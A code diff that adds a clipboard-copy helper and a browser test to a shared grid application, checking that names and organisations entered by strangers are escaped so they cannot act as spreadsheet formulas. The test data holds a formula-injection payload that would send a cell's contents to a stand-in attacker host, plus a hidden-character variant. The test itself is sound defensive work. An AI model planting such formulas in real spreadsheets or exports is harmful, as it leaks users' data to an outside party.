@@ -78,6 +78,19 @@ async def paste(page: Page, text: str) -> None:
     )
 
 
+async def copy(page: Page) -> str:
+    """Copy the selected cells, as Ctrl+C does; what is then in the clipboard."""
+    copied: str = await page.evaluate(
+        """() => {
+            const clipboardData = new DataTransfer();
+            const how = { clipboardData, bubbles: true, cancelable: true };
+            document.activeElement.dispatchEvent(new ClipboardEvent("copy", how));
+            return clipboardData.getData("text/plain");
+        }"""
+    )
+    return copied
+
+
 async def test_a_cell_is_edited_by_keyboard_and_seen_on_another_desk(harness: WebHarness, browser: Browser) -> None:
     async with desk(harness, browser, "Inès") as mine, desk(harness, browser, "Max") as other:
         await mine.get_by_role("grid").focus()
@@ -196,6 +209,23 @@ async def test_a_paste_is_saved_whole_or_told_what_has_no_place(harness: WebHarn
         await keys(page, "Control+Home", "ArrowRight", *["Shift+ArrowDown"] * 3)
         await paste(page, "Same")
         await expect(family).to_have_text(["Same"] * 4)
+
+
+async def test_what_people_wrote_is_no_formula_in_a_spreadsheet(harness: WebHarness, browser: Browser) -> None:
+    """Where registration is open, a stranger writes what stands at the desk."""
+    formula, unseen = '=IMPORTXML("https://evil.example/?"&B2;"x")', "\u200b=1+1"
+    await harness.world.invite("Mal", family_name=unseen, organisation=formula)
+    async with desk(harness, browser, "Inès") as page:
+        await page.get_by_role("grid").focus()
+        await keys(page, "Control+Home", *["ArrowRight"] * 5, *["ArrowDown"] * 3)
+        await expect(page.locator("[role=gridcell][aria-selected=true]")).to_have_text([formula])
+        assert await copy(page) == '"\'=IMPORTXML(""https://evil.example/?""&B2;""x"")"'
+        await keys(page, "ArrowUp")
+        assert await copy(page) == "Coop Cy"
+        await paste(page, "'=1+1")
+        await expect(page.locator("[role=gridcell][aria-selected=true]")).to_have_text(["=1+1"])
+        await keys(page, "ArrowDown", *["ArrowLeft"] * 4)
+        assert await copy(page) == f"'{unseen}"
 
 
 async def test_a_thousand_cells_have_no_place_in_nine_hundred_and_these_go_back_at_once(
